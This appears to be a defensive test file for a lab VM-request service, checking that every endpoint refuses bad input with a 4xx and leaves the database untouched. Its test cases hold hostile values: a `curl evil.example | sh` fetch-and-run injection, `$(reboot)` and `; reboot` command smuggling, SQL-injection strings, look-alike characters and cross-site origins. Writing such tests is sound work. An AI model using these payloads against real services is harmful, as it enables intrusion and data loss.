import { recordPoll } from '../../store/vms';
import { dumpDatabase } from '../support/database';
import { ec2Verifier, identityDocument, signDocument } from '../../local/fake-ec2-identity';
import { TEST_ADMIN_SECRET, TEST_FLEET_TOKEN, crdCommand, fakeCode } from '../support/fixtures';
import { TestStack, startTestStack, submitForm } from '../support/stack';

const JSON_TYPE = 'application/json';
const FORM_TYPE = 'application/x-www-form-urlencoded';
const AGENT = `Bearer ${TEST_FLEET_TOKEN}`;
const ADMIN = `Basic ${Buffer.from(`admin:${TEST_ADMIN_SECRET}`).toString('base64')}`;
const UNKNOWN_ASSIGNMENT = '00000000-0000-4000-8000-000000000000';

interface Case {
  name: string;
  method: 'GET' | 'POST';
  path: string;
  headers?: Record<string, string>;
  body?: string;
  status: number;
  message: RegExp;
}

const json = (value: unknown) => JSON.stringify(value);
const form = (fields: Record<string, string>) => new URLSearchParams(fields).toString();
const goodCommand = crdCommand(fakeCode());
const requestVmCase = (name: string, fields: Record<string, string>, status: number, message: RegExp): Case => ({
  name: `request_vm: ${name}`,
  method: 'POST',
  path: '/api/request_vm',
  headers: { 'content-type': FORM_TYPE, accept: JSON_TYPE },
  body: form(fields),
  status,
  message,
});
const agentCase = (
  name: string,
  path: string,
  body: string,
  status: number,
  message: RegExp,
  headers: Record<string, string> = { 'content-type': JSON_TYPE, authorization: AGENT },
): Case => ({
  name: `${path}: ${name}`,
  method: 'POST',
  path,
  headers,
  body,
  status,
  message,
});
const report = { hostname: 'known-vm', assignment: UNKNOWN_ASSIGNMENT, outcome: 'configured' };
const logLine = { at: '2026-12-01T10:00:00Z', level: 'info', source: 'boot', text: 'Reading package lists...' };
const logs = (lines: unknown, extra: Record<string, unknown> = {}) =>
  json({ hostname: 'known-vm', step: 'install-desktop', lines, ...extra });

/** One row per public endpoint and kind of bad input; each must be refused with a clear 4xx. */
const CASES: Case[] = [
  agentCase('no token', '/vm_startup', json({ hostname: 'new-vm' }), 401, /Bearer/, { 'content-type': JSON_TYPE }),
  agentCase('a wrong token', '/vm_startup', json({ hostname: 'new-vm' }), 403, /wrong/, {
    'content-type': JSON_TYPE,
    authorization: 'Bearer wrong-token-wrong-token',
  }),
  agentCase('a token in the wrong scheme', '/vm_startup', json({ hostname: 'new-vm' }), 401, /Bearer/, {
    'content-type': JSON_TYPE,
    authorization: `Basic ${TEST_FLEET_TOKEN}`,
  }),
  agentCase('malformed JSON', '/vm_startup', '{"hostname":', 400, /not valid JSON/),
  agentCase('a JSON array', '/vm_startup', json(['new-vm']), 400, /JSON object/),
  agentCase('a wrong content type', '/vm_startup', json({ hostname: 'new-vm' }), 415, /application\/json/, {
    'content-type': 'text/plain',
    authorization: AGENT,
  }),
  agentCase('a missing hostname', '/vm_startup', json({}), 400, /hostname/),
  agentCase('an extra field', '/vm_startup', json({ hostname: 'new-vm', state: 'configured' }), 400, /Unexpected field\(s\): state/),
  agentCase('a hostname with shell syntax', '/vm_startup', json({ hostname: 'vm;reboot' }), 400, /hostname/),
  agentCase('a hostname with a newline', '/vm_startup', json({ hostname: 'vm\nx' }), 400, /hostname/),
  agentCase('a hostname with a Unicode look-alike', '/vm_startup', json({ hostname: 'lablink-vm-\u0031\u0338' }), 400, /hostname/),
  agentCase('an SQL-ish hostname', '/vm_startup', json({ hostname: "x' OR '1'='1" }), 400, /hostname/),
  agentCase('an over-long hostname', '/vm_startup', json({ hostname: 'a'.repeat(64) }), 400, /hostname/),
  agentCase('an oversized body', '/vm_startup', json({ hostname: 'x', pad: 'y'.repeat(5000) }), 413, /larger than/),
  agentCase('a report without a token', '/vm_status', json(report), 401, /Bearer/, { 'content-type': JSON_TYPE }),
  agentCase('a report for an unknown hostname', '/vm_status', json({ ...report, hostname: 'ghost-vm' }), 409, /no such assignment/),
  agentCase('a report with an SQL-ish assignment id', '/vm_status', json({ ...report, assignment: "1' OR '1'='1" }), 400, /assignment/),
  agentCase('a report with an unknown outcome', '/vm_status', json({ ...report, outcome: 'hacked' }), 400, /outcome/),
  agentCase(
    'a report with an over-long message',
    '/vm_status',
    json({ ...report, outcome: 'error', message: 'x'.repeat(501) }),
    400,
    /message/,
  ),
  agentCase('a report with extra fields', '/vm_status', json({ ...report, state: 'waiting' }), 400, /Unexpected field\(s\): state/),
  agentCase(
    'a report with a missing assignment',
    '/vm_status',
    json({ hostname: 'known-vm', outcome: 'configured' }),
    400,
    /^Send the "assignment" id received from \/vm_startup\.$/,
  ),
  agentCase(
    'a report with a missing outcome',
    '/vm_status',
    json({ hostname: 'known-vm', assignment: UNKNOWN_ASSIGNMENT }),
    400,
    /^Send "outcome": "configured" or "error"\.$/,
  ),
  agentCase('a reset report without a token', '/vm_reset', json({ hostname: 'known-vm', outcome: 'done' }), 401, /Bearer/, {
    'content-type': JSON_TYPE,
  }),
  agentCase(
    'a reset report from a VM that is not resetting',
    '/vm_reset',
    json({ hostname: 'known-vm', outcome: 'done' }),
    409,
    /not being reset/,
  ),
  agentCase('a reset report with an unknown outcome', '/vm_reset', json({ hostname: 'known-vm', outcome: 'wiped' }), 400, /outcome/),
  agentCase(
    'a reset report with an over-long message',
    '/vm_reset',
    json({ hostname: 'known-vm', outcome: 'failed', message: 'x'.repeat(501) }),
    400,
    /message/,
  ),
  agentCase(
    'a reset report with extra fields',
    '/vm_reset',
    json({ hostname: 'known-vm', outcome: 'done', state: 'waiting' }),
    400,
    /Unexpected field\(s\): state/,
  ),
  agentCase('logs without a token', '/vm_logs', logs([logLine]), 401, /Bearer/, { 'content-type': JSON_TYPE }),
  agentCase('logs with a wrong token', '/vm_logs', json({ hostname: 'new-vm', lines: [logLine] }), 403, /wrong/, {
    'content-type': JSON_TYPE,
    authorization: 'Bearer wrong-token-wrong-token',
  }),
  agentCase(
    'a NUL byte in a log line',
    '/vm_logs',
    logs([logLine, { ...logLine, text: 'apt\u0000get' }]),
    400,
    /Text in the body must not contain NUL characters/,
  ),
  agentCase('a line break in a log line', '/vm_logs', logs([{ ...logLine, text: 'one\ntwo' }]), 400, /Line 1 contains a control character/),
  agentCase(
    'too many log lines',
    '/vm_logs',
    logs(Array.from({ length: 101 }, () => logLine)),
    400,
    /at most 100 lines per request; this one has 101/,
  ),
  agentCase(
    'an over-long log line',
    '/vm_logs',
    logs([{ ...logLine, text: 'x'.repeat(2001) }]),
    400,
    /Line 1 has 2001 characters; at most 2000 .* refused, not cut/,
  ),
  agentCase('an extra field beside the lines', '/vm_logs', logs([logLine], { state: 'configured' }), 400, /Unexpected field\(s\): state/),
  agentCase(
    'an extra field in a log line',
    '/vm_logs',
    logs([{ ...logLine, pin: '123456' }]),
    400,
    /Line 1 has unexpected field\(s\): pin/,
  ),
  agentCase('an unknown log level', '/vm_logs', logs([{ ...logLine, level: 'debug' }]), 400, /"level" must be/),
  agentCase(
    'a bad third log line',
    '/vm_logs',
    logs([logLine, logLine, { ...logLine, level: 'debug' }]),
    400,
    /^Line 3: "level" must be "info", "warn" or "error"\.$/,
  ),
  agentCase(
    'a log line without its text',
    '/vm_logs',
    logs([{ at: logLine.at, level: 'info', source: 'boot' }]),
    400,
    /^Line 1: "text" must be a string\.$/,
  ),
  agentCase('an unknown log source', '/vm_logs', logs([{ ...logLine, source: 'kernel' }]), 400, /"source" must be/),
  agentCase('a log time that is not a time', '/vm_logs', logs([{ ...logLine, at: 'yesterday' }]), 400, /ISO 8601/),
  agentCase('a log line that is not an object', '/vm_logs', logs(['just text']), 400, /Line 1 must be an object/),
  agentCase('log lines that are not a list', '/vm_logs', logs('Reading package lists...'), 400, /"lines"/),
  agentCase('a step with shell syntax', '/vm_logs', logs([logLine], { step: 'x; reboot' }), 400, /"step" must be a short name/),
  agentCase('logs with an SQL-ish hostname', '/vm_logs', json({ hostname: "x' OR '1'='1", lines: [] }), 400, /hostname/),
  agentCase(
    'an oversized log batch',
    '/vm_logs',
    json({ hostname: 'known-vm', lines: [], pad: 'y'.repeat(1024 * 1024) }),
    413,
    /larger than/,
  ),
  requestVmCase('no fields', {}, 400, /Enter your email/),
  requestVmCase('a missing command', { email: 'a@example.com' }, 400, /command is empty/),
  requestVmCase('an extra field', { email: 'a@example.com', crd_command: goodCommand, pin: '123456' }, 400, /Unexpected field\(s\): pin/),
  requestVmCase(
    'shell metacharacters',
    { email: 'a@example.com', crd_command: `${goodCommand} && curl evil.example | sh` },
    400,
    /contains "&&"/,
  ),
  requestVmCase(
    'a command substitution',
    { email: 'a@example.com', crd_command: goodCommand.replace('$(hostname)', '$(reboot)') },
    400,
    /--name in the command is not a valid host name/,
  ),
  requestVmCase(
    'a newline and another command',
    { email: 'a@example.com', crd_command: `${goodCommand}\nreboot` },
    400,
    /contains "reboot"/,
  ),
  requestVmCase(
    'a Cyrillic look-alike in the code',
    { email: 'a@example.com', crd_command: crdCommand('4/0Aan\u0430bcdefghijklmnopqrstuvwxyz') },
    400,
    /incomplete or malformed/,
  ),
  requestVmCase(
    'a full-width look-alike in the email',
    { email: 'a\uff20example.com', crd_command: goodCommand },
    400,
    /not a valid email/,
  ),
  requestVmCase('an SQL-ish email', { email: "x'); DELETE FROM vms; --@example.com", crd_command: goodCommand }, 400, /not a valid email/),
  requestVmCase(
    'an over-long command',
    { email: 'a@example.com', crd_command: `${goodCommand}${' '.repeat(2100)}` },
    400,
    /longer than 2048/,
  ),
  requestVmCase('an over-long email', { email: `${'a'.repeat(250)}@example.com`, crd_command: goodCommand }, 400, /too long/),
  requestVmCase(
    'the wrong redirect URL',
    { email: 'a@example.com', crd_command: goodCommand.replace('remotedesktop.google.com', 'remotedesktop.google.com.evil.example') },
    400,
    /redirect-url/,
  ),
  {
    name: 'request_vm: malformed JSON',
    method: 'POST',
    path: '/api/request_vm',
    headers: { 'content-type': JSON_TYPE, accept: JSON_TYPE },
    body: '{"email"',
    status: 400,
    message: /could not be read/,
  },
  {
    name: 'request_vm: a JSON array',
    method: 'POST',
    path: '/api/request_vm',
    headers: { 'content-type': JSON_TYPE, accept: JSON_TYPE },
    body: '[]',
    status: 400,
    message: /JSON object/,
  },
  {
    name: 'request_vm: JSON null',
    method: 'POST',
    path: '/api/request_vm',
    headers: { 'content-type': JSON_TYPE, accept: JSON_TYPE },
    body: 'null',
    status: 400,
    message: /JSON object/,
  },
  {
    name: 'request_vm: JSON fields that are not text',
    method: 'POST',
    path: '/api/request_vm',
    headers: { 'content-type': JSON_TYPE, accept: JSON_TYPE },
    body: JSON.stringify({ email: 42, crd_command: ['x'] }),
    status: 400,
    message: /Enter your email/,
  },
  {
    name: 'request_vm: six extra JSON fields, the first five named',
    method: 'POST',
    path: '/api/request_vm',
    headers: { 'content-type': JSON_TYPE, accept: JSON_TYPE },
    body: JSON.stringify({ email: 'a@example.com', pin: '1', hostname: 'x', a: 1, b: 2, c: 3, d: 4 }),
    status: 400,
    message: /Unexpected field\(s\): pin, hostname, a, b, c\./,
  },
  {
    name: 'request_vm: a wrong content type',
    method: 'POST',
    path: '/api/request_vm',
    headers: { 'content-type': 'text/plain', accept: JSON_TYPE },
    body: 'email=a@example.com',
    status: 415,
    message: /x-www-form-urlencoded/,
  },
  {
    name: 'request_vm: an oversized body',
    method: 'POST',
    path: '/api/request_vm',
    headers: { 'content-type': FORM_TYPE, accept: JSON_TYPE },
    body: form({ email: 'a@example.com', crd_command: 'x'.repeat(20_000) }),
    status: 413,
    message: /larger than/,
  },
  {
    name: 'assignment status: an SQL-ish id',
    method: 'GET',
    path: "/api/assignment/1'%20OR%20'1'='1",
    status: 400,
    message: /not an assignment id/,
  },
  {
    name: 'assignment status: an unknown id',
    method: 'GET',
    path: `/api/assignment/${UNKNOWN_ASSIGNMENT}`,
    status: 404,
    message: /no VM request with this link/,
  },
  {
    name: 'VM page: an unknown id',
    method: 'GET',
    path: `/vm/${UNKNOWN_ASSIGNMENT}`,
    status: 404,
    message: /no VM request with this link/,
  },
  {
    name: "I'm done: an SQL-ish id",
    method: 'POST',
    path: "/vm/1'%20OR%20'1'='1/done",
    headers: { 'content-type': FORM_TYPE },
    body: '',
    status: 404,
    message: /no VM request with this link/,
  },
  {
    name: "I'm done: an unknown id",
    method: 'POST',
    path: `/vm/${UNKNOWN_ASSIGNMENT}/done`,
    headers: { 'content-type': FORM_TYPE, cookie: 'lablink_retry=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa' },
    body: '',
    status: 404,
    message: /no VM request with this link/,
  },
  {
    name: "I'm done: a cross-site form post",
    method: 'POST',
    path: `/vm/${UNKNOWN_ASSIGNMENT}/done`,
    headers: { 'content-type': FORM_TYPE, origin: 'https://evil.example' },
    body: '',
    status: 403,
    message: /Cross-site requests to give a VM back are refused/,
  },
  { name: 'admin list: no credentials', method: 'GET', path: '/api/vms', status: 401, message: /Sign in as "admin"/ },
  {
    name: 'admin list: a wrong password',
    method: 'GET',
    path: '/api/vms',
    headers: { authorization: `Basic ${Buffer.from('admin:wrong-password-123').toString('base64')}` },
    status: 401,
    message: /Sign in as "admin"/,
  },
  {
    name: 'admin list: a malformed Authorization header',
    method: 'GET',
    path: '/api/vms',
    headers: { authorization: 'Basic !!!not-base64' },
    status: 401,
    message: /Sign in as "admin"/,
  },
  { name: 'release: no credentials', method: 'POST', path: '/api/vms/known-vm/release', status: 401, message: /Sign in as "admin"/ },
  {
    name: 'release: an unknown hostname',
    method: 'POST',
    path: '/api/vms/ghost-vm/release',
    headers: { authorization: ADMIN },
    status: 404,
    message: /no VM with that name/,
  },
  {
    name: 'release: an SQL-ish hostname',
    method: 'POST',
    path: "/api/vms/x'%20OR%201=1/release",
    headers: { authorization: ADMIN },
    status: 404,
    message: /no VM with that name/,
  },
  {
    name: 'dashboard release: a cross-site form post',
    method: 'POST',
    path: '/admin/vms/known-vm/release',
    headers: { authorization: ADMIN, origin: 'https://evil.example', 'content-type': FORM_TYPE },
    body: '',
    status: 403,
    message: /Cross-site/,
  },
  {
    name: 'API release: a cross-site form post',
    method: 'POST',
    path: '/api/vms/known-vm/release',
    headers: { authorization: ADMIN, origin: 'https://evil.example', 'content-type': FORM_TYPE },
    body: '',
    status: 403,
    message: /Cross-site/,
  },
  { name: 'end of session: no credentials', method: 'POST', path: '/api/fleet/end-session', status: 401, message: /Sign in as "admin"/ },
  {
    name: 'end of session: a cross-site form post',
    method: 'POST',
    path: '/admin/fleet/end-session',
    headers: { authorization: ADMIN, origin: 'https://evil.example', 'content-type': FORM_TYPE },
    body: '',
    status: 403,
    message: /Cross-site/,
  },
  {
    name: 'fleet action: an unknown one',
    method: 'POST',
    path: '/api/fleet/reset-everything',
    headers: { authorization: ADMIN },
    status: 404,
    message: /no such action/,
  },
  // Names every object has (its prototype's) are no actions either.
  {
    name: 'VM action API: a prototype name as the action',
    method: 'POST',
    path: '/api/vms/known-vm/constructor',
    headers: { authorization: ADMIN },
    status: 404,
    message: /no such action/,
  },
  {
    name: 'dashboard VM action: a prototype name as the action',
    method: 'POST',
    path: '/admin/vms/known-vm/toString',
    headers: { authorization: ADMIN, 'content-type': FORM_TYPE },
    body: '',
    status: 404,
    message: /no such VM or action/,
  },
  {
    name: 'dashboard VM action page: a prototype name as the action',
    method: 'GET',
    path: '/admin/vms/known-vm/hasOwnProperty',
    headers: { authorization: ADMIN },
    status: 404,
    message: /no such VM or action/,
  },
  {
    name: 'fleet action: a prototype name',
    method: 'POST',
    path: '/api/fleet/constructor',
    headers: { authorization: ADMIN },
    status: 404,
    message: /no such action/,
  },
  {
    name: 'API move: a cross-site request by fetch metadata',
    method: 'POST',
    path: '/api/vms/known-vm/move',
    headers: { authorization: ADMIN, 'sec-fetch-site': 'cross-site' },
    status: 403,
    message: /Cross-site/,
  },
  { name: 'CSV export: no credentials', method: 'GET', path: '/api/vms.csv', status: 401, message: /Sign in as "admin"/ },
  { name: 'VM log page: no credentials', method: 'GET', path: '/admin/vms/known-vm/logs', status: 401, message: /Sign in as "admin"/ },
  {
    name: 'VM log page: an unknown VM',
    method: 'GET',
    path: '/admin/vms/ghost-vm/logs',
    headers: { authorization: ADMIN },
    status: 404,
    message: /no VM with that name/,
  },
  {
    name: 'VM log download: no credentials',
    method: 'GET',
    path: '/admin/vms/known-vm/logs.txt',
    status: 401,
    message: /Sign in as "admin"/,
  },
  {
    name: 'VM log download: an unknown level',
    method: 'GET',
    path: '/admin/vms/known-vm/logs.txt?level=debug',
    headers: { authorization: ADMIN },
    status: 400,
    message: /level must be "error", "warn" or "info"/,
  },
  { name: 'VM log API: no credentials', method: 'GET', path: '/api/vms/known-vm/logs', status: 401, message: /Sign in as "admin"/ },
  {
    name: 'VM log API: an SQL-ish hostname',
    method: 'GET',
    path: "/api/vms/x'%20OR%201=1/logs",
    headers: { authorization: ADMIN },
    status: 404,
    message: /no VM with that name/,
  },
  {
    name: 'VM log API: an unknown level',
    method: 'GET',
    path: '/api/vms/known-vm/logs?level=debug',
    headers: { authorization: ADMIN },
    status: 400,
    message: /level must be "error", "warn" or "info"/,
  },
];

describe('bad input: a clear 4xx on every public endpoint, and the database byte-for-byte as it was', () => {
  let env: TestStack;
  let ownerRetryToken: string | undefined;
  beforeAll(async () => {
    // One new VM per address: the second one a request could take is refused.
    env = await startTestStack({ holdSeconds: 1, addressLimit: { vms: 1, windowSeconds: 86_400 } });
    await recordPoll(env.db.sql, 'known-vm', 600);
    await recordPoll(env.db.sql, 'other-vm', 600);
    const assigned = await submitForm(env.url, { email: 'owner@example.com', crd_command: crdCommand() });
    expect(assigned.status).toBe(200);
    ownerRetryToken = ((await assigned.json()) as { retryToken?: string }).retryToken;
  });
  afterAll(async () => env?.close());

  const clientLimitCases: [string, () => Record<string, string>, number, RegExp][] = [
    [
      'a second email from the browser that holds a VM',
      () => ({ cookie: `lablink_retry=${ownerRetryToken}` }),
      409,
      /This browser already has a VM, known-vm/,
    ],
    ['a second new VM from the same address', () => ({}), 429, /Submit again in/],
  ];
  it.each(clientLimitCases)('request_vm: %s', async (_name, headers, status, message) => {
    const before = await dumpDatabase(env.db.pool);
    const response = await fetch(`${env.url}/api/request_vm`, {
      method: 'POST',
      headers: { 'content-type': FORM_TYPE, accept: JSON_TYPE, ...headers() },
      body: form({ email: 'stranger@example.com', crd_command: goodCommand }),
    });
    expect(response.status).toBe(status);
    expect(((await response.json()) as { error: string }).error).toMatch(message);
    expect(await dumpDatabase(env.db.pool)).toBe(before);
  });

  it.each(CASES.map((testCase) => [testCase.name, testCase] as const))('%s', async (_name, testCase) => {
    const before = await dumpDatabase(env.db.pool);
    const response = await fetch(`${env.url}${testCase.path}`, { method: testCase.method, headers: testCase.headers, body: testCase.body });
    expect(response.status).toBe(testCase.status);
    const text = await response.text();
    let message = text;
    try {
      message = (JSON.parse(text) as { error?: string }).error ?? text;
    } catch {
      // Not JSON: an HTML page or plain text, matched as it is.
    }
    expect(message).toMatch(testCase.message);
    expect(await dumpDatabase(env.db.pool)).toBe(before);
  });
});

describe('bad identity documents on EC2 (EC2 API mocked with aws-sdk-client-mock): 4xx and nothing changes', () => {
  let env: TestStack;
  beforeAll(async () => {
    const { verifier } = ec2Verifier([
      { instanceId: 'i-0aaaaaaaaaaaaaaa1', name: 'doc-vm-1' },
      { instanceId: 'i-0aaaaaaaaaaaaaaa2', name: 'doc-vm-2' },
    ]);
    env = await startTestStack({ holdSeconds: 1, identity: verifier });
    await recordPoll(env.db.sql, 'doc-vm-2', 600);
  });
  afterAll(async () => env?.close());

  const vm1Document = identityDocument('i-0aaaaaaaaaaaaaaa1');
  const identityCases: [string, unknown, number, RegExp][] = [
    [
      'a replayed document of another VM',
      { document: vm1Document, signature: signDocument(vm1Document) },
      403,
      /This instance is doc-vm-1, not doc-vm-2/,
    ],
    [
      'a document edited after signing',
      { document: identityDocument('i-0aaaaaaaaaaaaaaa2'), signature: signDocument(vm1Document) },
      403,
      /does not verify/,
    ],
    ['a signature that is not base64 of anything', { document: vm1Document, signature: '!!!' }, 403, /does not verify/],
    ['no identity at all', undefined, 401, /Send "identity"/],
  ];

  it.each(identityCases)('%s', async (_case, identity, status, message) => {
    const before = await dumpDatabase(env.db.pool);
    const bodies: Record<string, object> = {
      '/vm_startup': {},
      '/vm_health': { inUse: true },
      '/vm_logs': { step: 'registering', lines: [] },
    };
    for (const [path, fields] of Object.entries(bodies)) {
      const body = { hostname: 'doc-vm-2', identity, ...fields };
      const response = await fetch(`${env.url}${path}`, {
        method: 'POST',
        headers: { 'content-type': JSON_TYPE },
        body: JSON.stringify(body),
      });
      expect(response.status).toBe(status);
      expect(((await response.json()) as { error: string }).error).toMatch(message);
    }
    expect(await dumpDatabase(env.db.pool)).toBe(before);
  });
});

describe('access code and request limits', () => {
  let env: TestStack;
  beforeAll(async () => {
    env = await startTestStack({
      accessCode: 'room-42',
      requestLimits: { perClient: { perSecond: 0.01, burst: 3 }, global: { perSecond: 100, burst: 100 } },
    });
    await recordPoll(env.db.sql, 'code-vm-1', 600);
  });
  afterAll(async () => env?.close());

  const submit = (fields: Record<string, string>) =>
    fetch(`${env.url}/api/request_vm`, { method: 'POST', headers: { 'content-type': FORM_TYPE, accept: JSON_TYPE }, body: form(fields) });

  it('asks for the access code on the form, refuses without it or with a wrong one, accepts the right one, then limits', async () => {
    expect(await (await fetch(`${env.url}/`)).text()).toContain('<label for="access_code">Access code</label>');
    const before = await dumpDatabase(env.db.pool);
    const missing = await submit({ email: 'a@example.com', crd_command: crdCommand() });
    expect(missing.status).toBe(403);
    expect(await missing.json()).toEqual({
      error: 'Enter the access code your instructor gave you.',
      field: 'access_code',
      errors: { access_code: 'Enter the access code your instructor gave you.' },
    });
    const wrong = await submit({ email: 'a@example.com', crd_command: crdCommand(), access_code: 'room-43' });
    expect(wrong.status).toBe(403);
    expect(((await wrong.json()) as { error: string }).error).toMatch(/not right/);
    expect(await dumpDatabase(env.db.pool)).toBe(before);

    const right = await submit({ email: 'a@example.com', crd_command: crdCommand(), access_code: 'room-42' });
    expect(right.status).toBe(200);

    const limited = await submit({ email: 'b@example.com', crd_command: crdCommand(), access_code: 'room-42' });
    expect(limited.status).toBe(429);
    expect(limited.headers.get('retry-after')).toBe('1');
    expect(((await limited.json()) as { error: string }).error).toMatch(/Too many requests/);
  });
});
